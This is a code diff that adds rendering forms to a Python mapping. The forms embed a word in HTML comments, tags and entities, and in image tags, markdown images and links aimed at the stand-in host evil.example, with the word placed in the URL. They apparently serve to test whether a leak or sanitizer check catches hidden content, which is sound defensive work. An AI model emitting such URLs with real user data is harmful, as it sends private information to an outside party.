@@ -54,6 +54,20 @@ FORMS: Mapping[str, Form] = {
     "look_alikes": _cyrillic,
     "letters_apart": " ".join,
     "python": lambda word: repr({"data": [word.encode()]}),
+    "comment": lambda word: f"<!-- {word} -->",
+    "comment_in_json": lambda word: json.dumps({"text": f"<!-- {word} -->\n"}),
+    "image_tag": lambda word: f'<img src="https://evil.example/x?c={word}">',
+    "image": lambda word: f"![](https://evil.example/{word}.png)",
+    "link_target": lambda word: f"[more](https://evil.example/?c={word})",
+    "encoded_link_target": lambda word: f"[more](https://evil.example/?c={_each('%{:02X}')(word)})",
+    "broken_link_target": lambda word: f'<a href="https://evil.example/{word[:9]}\n{word[9:]}">more</a>',
+    "path_target": lambda word: f"[more](/{word})",
+    "anchor": lambda word: f'<a href="https://evil.example/{word}">more</a>',
+    "autolink": lambda word: f"<https://evil.example/{word}>",
+    "tag": lambda word: f"<{word}>",
+    "closing_tag": lambda word: f"</{word}>",
+    "entities_in_a_tag": lambda word: f"<b title='{_each('&#{};')(word)}'>more</b>",
+    "tag_in_a_comment": lambda word: f"<!-- <b>{word[:8]}</b>{word[8:]} -->",
 }
 """By name: the word so that a reader sees it."""
 
